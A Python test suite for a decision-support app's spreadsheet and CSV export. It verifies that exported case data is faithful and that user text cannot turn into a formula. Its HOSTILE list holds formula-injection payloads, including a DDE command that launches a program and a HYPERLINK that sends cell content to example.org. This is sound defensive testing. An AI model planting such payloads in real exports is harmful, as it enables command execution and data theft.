"""Spreadsheets of the library and of a matrix: read back with other programs, they say what the cases say."""

from __future__ import annotations

import csv
import datetime
import io
import logging
import os
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Iterable, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.spreadsheet_files import Cell, Table, as_csv, as_xlsx
from app.spreadsheets import Filed, library_tables, matrix_tables
from app.words import Words
from decision.analysis import Analysis, analyse
from decision.case import Case, Documented, Estimate, Evidence, Overrule, Rating
from decision.model import DecisionModel
from decision.result_writing import result_document

ROOT = Path(__file__).resolve().parents[2]
WORDS = Words()
PROGRAM = "Footing 0.0"
CHANGED = datetime.datetime(2024, 2, 29, 23, 30, 5, 123456, tzinfo=datetime.timezone(datetime.timedelta(hours=2)))
FILED = Filed(("Sahel", "for review"), False, 4, CHANGED, "two_feet_out", "leaning")
SIGNS = "=+-@\u2212＝＋－＠﹦﹢﹣﹫"
HOSTILE = (
    '=HYPERLINK("http://example.org/?"&A1,"Open")',
    "+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "=cmd|' /C calc'!A0",
    "{=1+1}",
    "   =1",
    "\u3000＝1+1",
    "\ufeff=1",
    "\u200b+1",
    "－1",
    "one;=1+1;two",
    "one\t@SUM(1)",
    'one";"=1+1',
    '","=1+1',
    "http://example.org/",
    "internal:Cases!A1",
    "mailto:a@example.org",
    "<r><t>bold</t></r>",
    "<r>&</r>",
    "</t></si><si><f>1+1</f>",
    "_x003D_1",
    "1e5",
    "=1",
)


def workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def sheet_rows(data: bytes, name: str) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in workbook(data)[name].iter_rows()]


def by_head(data: bytes, name: str) -> list[dict[str, Any]]:
    heads, *rows = sheet_rows(data, name)
    assert len(set(heads)) == len(heads)
    return [dict(zip(heads, row, strict=True)) for row in rows]


def entries(data: bytes) -> dict[str, Any]:
    return {row[0]: row[1] for row in sheet_rows(data, "About")[1:]}


def unzipped(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "\n".join(archive.read(name).decode() for name in archive.namelist())


def parsed(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def filed_all(cases: Iterable[Case]) -> dict[str, Filed]:
    return {case.id: FILED for case in cases}


def library(
    model: DecisionModel, cases: Iterable[Case], filed: Mapping[str, Filed] | None = None
) -> tuple[Table, ...]:
    chosen = list(cases)
    return library_tables(WORDS, model, chosen, filed_all(chosen) if filed is None else filed, PROGRAM)


def one_column(texts: Iterable[Cell]) -> Table:
    return Table("Texts", ("Text",), tuple((text,) for text in texts))


@pytest.fixture(scope="module")
def whole(model: DecisionModel, nine: dict[str, Case]) -> bytes:
    return as_xlsx(library(model, nine.values()))


@pytest.fixture(scope="module")
def analysis(model: DecisionModel, nine: dict[str, Case]) -> Analysis:
    return analyse(model, nine["darfur-unamid"], list(nine.values()), draws=600)


def test_the_nine_cases_are_exported_whole(whole: bytes, model: DecisionModel, nine: dict[str, Case]) -> None:
    rows = by_head(whole, "Cases")
    assert [row["Id"] for row in rows] == [case.id for case in nine.values()]
    for row, case in zip(rows, nine.values(), strict=True):
        assert row["Case"] == case.title
        assert row["As of"] == datetime.datetime.combine(case.as_of, datetime.time())
        assert row["Country codes"] == "; ".join(case.countries)
        assert case.documented is not None
        assert row["Source of the documented arrangement"] == case.documented.source
        for name, rating in case.ratings.items():
            assert row[WORDS(f"criterion.{name}.name")] == rating.estimate.best
    ratings = [(name, rating) for case in nine.values() for name, rating in case.ratings.items()]
    judged = [row for row in by_head(whole, "Ratings") if row["Basis of the level"] == "judged by the desk"]
    assert sorted(
        (WORDS(f"criterion.{name}.name"), item.rationale, item.estimate.low) for name, item in ratings
    ) == (sorted((row["Criterion"], row["Rationale"], row["Low"]) for row in judged))
    evidence = [(case.id, item.id, item.title, item.url) for case in nine.values() for item in case.evidence]
    found = by_head(whole, "Evidence")
    assert [(row["Id of the case"], row["Id of the evidence"], row["Evidence"], row["Link"]) for row in found] == (
        evidence
    )
    assert entries(whole)["Number of cases"] == 9
    assert entries(whole)["SHA-256 of the model"] == model.sha256


def test_a_case_reads_in_words(whole: bytes) -> None:
    row = next(row for row in by_head(whole, "Cases") if row["Case"] == "Chad and CAR / MINURCAT")
    assert row["Countries"] == "Chad; Central African Republic"
    assert row["Kind of mission"] == "peacekeeping operation"
    assert row["Use of force"] == "may be targeted by armed groups"
    assert row["Documented arrangement"] == "Two feet out"
    assert (row["Recommendation"], row["Strength"]) == ("Two feet out", "leaning")
    assert row["Tags"] == "Sahel; for review"
    assert row["Archived"] is False
    assert row["Versions"] == 4
    assert row["Decision"] is None
    assert row["Last change (UTC)"] == datetime.datetime(2024, 2, 29, 21, 30, 5)


def test_numbers_dates_and_truths_keep_their_types(whole: bytes) -> None:
    sheet = workbook(whole)["Cases"]
    heads = {cell.value: cell.column for cell in sheet[1]}
    kinds = {
        name: sheet.cell(2, heads[name]).data_type
        for name in ("Case", "As of", "Archived", "Versions", "Last change (UTC)", "Insecurity")
    }
    assert kinds == {
        "Case": "s",
        "As of": "d",
        "Archived": "b",
        "Versions": "n",
        "Last change (UTC)": "d",
        "Insecurity": "n",
    }
    assert sheet.cell(2, heads["As of"]).number_format == "yyyy-mm-dd"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert all(item.width <= 61 for item in sheet.column_dimensions.values())


def test_the_csv_of_the_library_is_the_sheet_of_cases(model: DecisionModel, nine: dict[str, Case]) -> None:
    table = library(model, nine.values())[0]
    data = as_csv(table)
    assert data.startswith(b"\xef\xbb\xbfId,Case,")
    assert data.count(b"\r\n") == 10
    assert data.count(b"\n") == 10
    frame = pd.read_csv(io.BytesIO(data), parse_dates=["As of"])
    assert list(frame.columns) == list(table.heads)
    assert frame["Versions"].tolist() == [4] * 9
    assert frame["As of"].dt.date.tolist() == [case.as_of for case in nine.values()]
    assert frame["Insecurity"].tolist() == [case.ratings["insecurity"].estimate.best for case in nine.values()]
    assert frame["Last change (UTC)"][0] == "2024-02-29 21:30:05"


def test_every_word_is_there(
    model: DecisionModel, nine: dict[str, Case], analysis: Analysis, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.WARNING):
        tables = [*library(model, nine.values()), *matrix_tables(WORDS, analysis, PROGRAM)]
    assert caplog.text == ""
    assert all(len(table.name) <= 31 and not set("[]:*?/\\") & set(table.name) for table in tables)
    assert all(len(row) == len(table.heads) for table in tables for row in table.rows)


def hostile_case(case: Case, text: str) -> Case:
    rating = Rating(Estimate(10, 20, 30), rationale=text, evidence=("e1",))
    return replace(
        case,
        title=text,
        mission=replace(case.mission, name=text),
        ratings={"insecurity": rating},
        evidence=(Evidence("e1", text, source=text, url=text, reliability=text, excerpt=text),),
        documented=Documented("two_feet_in", text),
        decision={"option": text},
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_arrives_as_a_formula(model: DecisionModel, nine: dict[str, Case], text: str) -> None:
    case = hostile_case(nine["somalia"], text)
    tables = library(model, [case], {case.id: replace(FILED, tags=(text,))})
    data = as_xlsx(tables)
    cells = [cell for sheet in workbook(data) for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "b"}
    assert all(cell.hyperlink is None for cell in cells)
    texts = [
        cell for sheet in workbook(data) for row in sheet.iter_rows(2) for cell in row if cell.data_type == "s"
    ]
    assert all(cell.quotePrefix for cell in texts), "one that would become a formula when it is edited"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert len(sheets) == 4
    assert not [sheet for sheet in sheets if b"<f>" in sheet or b"<f " in sheet or b"<hyperlink" in sheet]
    kept = text.replace("\r", "\n")
    row = by_head(data, "Cases")[0]
    for head in ("Case", "Mission", "Decision", "Tags", "Source of the documented arrangement"):
        # A text in the writer's own marks is told from markup by a space after it. What Excel reads as an
        # escape is stored escaped, and openpyxl shows the escape.
        assert row[head].rstrip(" ").replace("_x005F", "") == kept
    assert by_head(data, "Ratings")[0]["Rationale"].rstrip(" ").replace("_x005F", "") == kept


def starts_with_a_sign(cell: str) -> bool:
    bare = cell.strip(" \t\n\r\u3000\ufeff\u200b")
    return bare[:1] in SIGNS if bare else False


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_csv_cell_begins_with_a_sign_however_it_is_parted(
    model: DecisionModel, nine: dict[str, Case], delimiter: str
) -> None:
    cases = [replace(hostile_case(nine["somalia"], text), id=f"c{place}") for place, text in enumerate(HOSTILE)]
    data = as_csv(library(model, cases)[0])
    assert [cell for row in parsed(data, delimiter) for cell in row if starts_with_a_sign(cell)] == []


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(st.lists(st.text("=+-@＝−;,\t\n\r\"' \u3000\ufeff\u200ba1", max_size=12), min_size=1, max_size=3))
def test_signs_quotes_and_separators_in_any_order_begin_no_cell(texts: list[str]) -> None:
    table = Table("Texts", ("Id", *"abc"[: len(texts)]), (("x", *texts),))
    data = as_csv(table)
    for delimiter in (",", ";", "\t"):
        assert [cell for row in parsed(data, delimiter) for cell in row if starts_with_a_sign(cell)] == []
    back = parsed(data)[1][1:]
    for text, cell in zip(texts, back, strict=True):
        assert cell.replace("'", "") == text.replace("\r\n", "\n").replace("\r", "\n").replace("'", "")


def test_a_csv_text_of_a_formula_keeps_its_letters_behind_an_apostrophe() -> None:
    told = {
        "=1+1": "'=1+1",
        "  -2": "'  -2",
        "\tno sign": "'\tno sign",
        "\rno sign": "'\nno sign",
        "a;\u3000＝1": "a;\u3000'＝1",
    }
    rows = parsed(as_csv(Table("Texts", ("=Head",), tuple((text,) for text in told))))
    assert [row[0] for row in rows] == ["'=Head", *told.values()]


def test_harmless_texts_and_numbers_are_left_alone_in_csv() -> None:
    kept = ["Liberia / UNMIL", "a-b = c + d", "it's", "two; three", 'so-called "peace"', "line\nline", "名前", ""]
    table = Table("Texts", ("Text", "Number"), tuple((text, -1.5) for text in kept))
    assert parsed(as_csv(table))[1:] == [[text, "-1.5"] for text in kept]
    odd = Table("Odd", ("a", "b", "c", "d", "e"), ((-3, True, None, float("nan"), float("-inf")),))
    assert parsed(as_csv(odd))[1] == ["-3", "True", "", "", ""]
    assert sheet_rows(as_xlsx([odd]), "Odd")[1] == [-3, True, None, None, None]


def secret_case(case: Case) -> Case:
    first, second, *_ = case.ratings
    guarded = replace(case.ratings[first], rationale="SECRETREASON", evidence=("hidden-id",), protected=True)
    linked = replace(case.ratings[second], evidence=("hidden-id", case.evidence[0].id))
    item = Evidence(
        "hidden-id", "SECRETTITLE", "SECRETSOURCE", None, "http://SECRETLINK", "SECRETGRADE", "SECRETTEXT", True
    )
    return replace(
        case,
        ratings={**case.ratings, first: guarded, second: linked},
        evidence=(*case.evidence, item),
        documented=None,
    )


def test_what_is_protected_is_nowhere_and_its_number_is_told(model: DecisionModel, nine: dict[str, Case]) -> None:
    case = secret_case(nine["somalia"])
    tables = library(model, [case, nine["liberia-unmil"]])
    data = as_xlsx(tables)
    texts = unzipped(data) + "".join(as_csv(table).decode() for table in tables)
    assert nine["somalia"].evidence[0].title in " ".join(str(cell) for row in tables[2].rows for cell in row)
    assert "SECRET" not in texts
    assert "hidden-id" not in texts
    assert entries(data)["Items of evidence left out"] == 1
    assert entries(data)["Protected ratings without their rationale"] == 1
    first = next(iter(case.ratings))
    rows = [row for row in by_head(data, "Ratings") if row["Criterion"] == WORDS(f"criterion.{first}.name")]
    assert rows[0]["Best"] == case.ratings[first].estimate.best
    assert rows[0]["Rationale"] is None


@pytest.mark.parametrize("letter", ["a", "é", "\U0001f30d"])
def test_a_text_longer_than_a_cell_is_cut_with_an_ellipsis(letter: str) -> None:
    units = len(letter.encode("utf-16-le")) // 2
    fits, over = letter * (32_767 // units), letter * (32_767 // units + 1)
    rows = [row[0] for row in sheet_rows(as_xlsx([one_column([fits, over])]), "Texts")[1:]]
    assert rows[0] == fits
    assert rows[1] == letter * (32_766 // units) + "…"
    csv.field_size_limit(200_000)
    assert [row[0] for row in parsed(as_csv(one_column([fits, over])))[1:]] == rows
    markup = f"<r>{'x' * 32_760}</r>"
    assert len(markup) == 32_767
    assert sheet_rows(as_xlsx([one_column([markup])]), "Texts")[1] == [f"{markup[:-1]}…"]


def test_what_no_xml_may_hold_is_shown_as_missing() -> None:
    texts = [
        f"a{chr(code)}b" for code in (*range(1, 9), 11, 12, *range(14, 32), 0x7F, 0x85, 0xD800, 0xFFFE, 0xFFFF)
    ]
    assert [row[0] for row in sheet_rows(as_xlsx([one_column(texts)]), "Texts")[1:]] == ["a\ufffdb"] * len(texts)
    assert [row[0] for row in parsed(as_csv(one_column(texts)))[1:]] == ["a\ufffdb"] * len(texts)


def test_a_date_before_all_calendars_agree_is_a_text() -> None:
    days = [datetime.date(1878, 7, 13), datetime.date(1900, 2, 28), datetime.date(1900, 3, 1)]
    rows = [row[0] for row in sheet_rows(as_xlsx([one_column(days)]), "Texts")[1:]]
    assert rows == ["1878-07-13", "1900-02-28", datetime.datetime(1900, 3, 1)]


def test_an_empty_library_has_its_heads(model: DecisionModel) -> None:
    tables = library(model, [])
    data = as_xlsx(tables)
    assert workbook(data).sheetnames == ["Cases", "Ratings", "Evidence", "About"]
    assert sheet_rows(data, "Cases") == [list(tables[0].heads)]
    assert entries(data)["Number of cases"] == 0
    assert parsed(as_csv(tables[0])) == [list(tables[0].heads)]


def test_what_is_not_known_is_empty(model: DecisionModel, nine: dict[str, Case]) -> None:
    somalia = nine["somalia"]
    bare = replace(
        somalia,
        mission=replace(somalia.mission, status=None),
        country_team=None,
        phase=None,
        current_arrangement=None,
        documented=None,
        ratings={},
        decision={"option": "two_feet_in"},
    )
    data = as_xlsx(library(model, [bare], {bare.id: Filed((), True, 1, None, None, None)}))
    row = by_head(data, "Cases")[0]
    absent = {name for name, value in row.items() if value is None}
    assert absent >= {
        "Status of the mission",
        "Phase",
        "OCHA presence",
        "Arrangement today",
        "Documented arrangement",
    }
    assert absent >= {"Recommendation", "Strength", "Tags", "Last change (UTC)", "Insecurity", "Mismatch of areas"}
    assert row["Decision"] == "Two feet in"
    assert row["Archived"] is True
    tie = library(model, [bare], {bare.id: Filed((), True, 1, None, None, "open")})
    assert (tie[0].rows[0][15], tie[0].rows[0][16]) == ("nothing", "open")


def test_the_matrix_says_what_the_result_file_says(model: DecisionModel, analysis: Analysis) -> None:
    data = as_xlsx(matrix_tables(WORDS, analysis, PROGRAM))
    result = result_document(analysis, PROGRAM)
    names = {option: WORDS(f"option.{option}.name") for option in model.option_ids}
    rows = by_head(data, "Decision matrix")
    for row, criterion in zip(rows, model.criteria, strict=True):
        level = result["levels"][criterion.id]
        assert row["Criterion"] == WORDS(f"criterion.{criterion.id}.name")
        assert row["Family"] == WORDS(f"family.{criterion.family}.name")
        assert (row["Low"], row["Best"], row["High"]) == (level["low"], level["best"], level["high"])
        assert row["Weight (share of 1)"] == result["weights"]["criteria"][criterion.id]
        fits = {option: row[f"Fit: {name}"] for option, name in names.items()}
        assert fits == result["fits"][criterion.id]
    values = dict(zip(names, by_head(data, "Values"), strict=True))
    for option, row in values.items():
        assert row["Option"] == names[option]
        assert row["Value"] == result["values"][option]
        assert [row["Least value"], row["Greatest value"]] == result["value_bounds"][option]
        assert row["First in draws (share of 1)"] == result["robustness"]["rank_acceptability"][option][0]
        assert row["Doctrine says"] == result["doctrine"]["standings"][option]["effect"]
        for finding in result["methods"].values():
            (head,) = [head for head in row if head.endswith(f"({finding['method']})")]
            assert row[head] == finding["scores"][option]
    assert [row["Rank by value"] for row in values.values()] == [3, 2, 1]
    assert [row["Recommended"] for row in values.values()] == [False, False, True]
    assert [row["Indicated by doctrine"] for row in values.values()] == [False, False, True]
    assert [row["Strength"] for row in values.values()] == [None, None, result["recommendation"]["strength"]]


def test_the_matrix_says_what_it_was_computed_with(model: DecisionModel, nine: dict[str, Case]) -> None:
    case = replace(nine["liberia-unmil"], overrules=(Overrule("R1", "Agreed otherwise."),))
    said = entries(as_xlsx(matrix_tables(WORDS, analyse(model, case, [], draws=200, seed=7), PROGRAM)))
    assert said["Case"] == case.title
    assert said["As of"] == datetime.datetime.combine(case.as_of, datetime.time())
    assert (said["Seed of the draws"], said["Number of draws"]) == (7, 200)
    assert (said["Program"], said["SHA-256 of the model"]) == (PROGRAM, model.sha256)
    assert said["Rules set aside"] == "R1"


def test_an_unrated_level_has_no_best_and_a_computed_one_says_so(
    model: DecisionModel, nine: dict[str, Case]
) -> None:
    case = replace(nine["somalia"], ratings={"insecurity": Rating(Estimate(10, 20, 30))})
    rows = by_head(as_xlsx(matrix_tables(WORDS, analyse(model, case, [], draws=200), PROGRAM)), "Decision matrix")
    found = {row["Criterion"]: row for row in rows}
    assert found["Insecurity"]["Best"] == 20
    assert found["Mismatch of areas"]["Basis of the level"] == "computed from the facts of the case"
    unrated = found["Host government hostility"]
    assert (unrated["Low"], unrated["Best"], unrated["High"]) == (0, None, 100)
    assert unrated["Basis of the level"] == "not rated"


def test_the_csv_of_the_matrix_keeps_its_numbers(analysis: Analysis) -> None:
    table = matrix_tables(WORDS, analysis, PROGRAM)[0]
    frame = pd.read_csv(io.BytesIO(as_csv(table)))
    assert frame["Weight (share of 1)"].sum() == pytest.approx(1)
    value = (frame["Weight (share of 1)"] * frame["Fit: Two feet out"]).sum()
    assert value == pytest.approx(float(analysis.valuation.values[2]), abs=1e-4)


def test_no_word_of_it_lies_in_a_temporary_file(
    model: DecisionModel, nine: dict[str, Case], whole: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "there-is-none"))
    assert as_xlsx(library(model, nine.values())) == whole


SCRIPT = """
import datetime, hashlib, sys
from pathlib import Path
from app.spreadsheet_files import as_csv, as_xlsx
from app.spreadsheets import Filed, library_tables, matrix_tables
from app.words import Words
from decision.analysis import analyse
from decision.case_reading import read_case
from decision.model_reading import read_model

model = read_model(Path("assets/models/two-feet.toml").read_bytes())
cases = [read_case(path.read_bytes(), model) for path in sorted(Path("assets/cases").glob("*.json"))]
changed = datetime.datetime(2024, 2, 29, 21, 30, tzinfo=datetime.UTC)
filed = {case.id: Filed(("Sahel", "b"), False, 4, changed, "two_feet_out", "leaning") for case in cases}
library = library_tables(Words(), model, cases, filed, "Footing")
matrix = matrix_tables(Words(), analyse(model, cases[0], cases, draws=200), "Footing")
for data in (as_xlsx(library), as_xlsx(matrix), as_csv(library[0]), as_csv(matrix[0])):
    print(hashlib.sha256(data).hexdigest())
"""


def test_the_bytes_are_the_same_in_every_process_and_time_zone() -> None:
    def run(seed: str, zone: str) -> str:
        place = {**os.environ, "PYTHONHASHSEED": seed, "TZ": zone}
        done = subprocess.run(
            [sys.executable, "-c", SCRIPT],
            cwd=ROOT,
            env=place,
            capture_output=True,
            text=True,
            timeout=100,
            check=True,
        )
        return done.stdout

    first = run("1", "UTC")
    assert len(first.splitlines()) == 4
    assert run("2", "America/Lima") == first
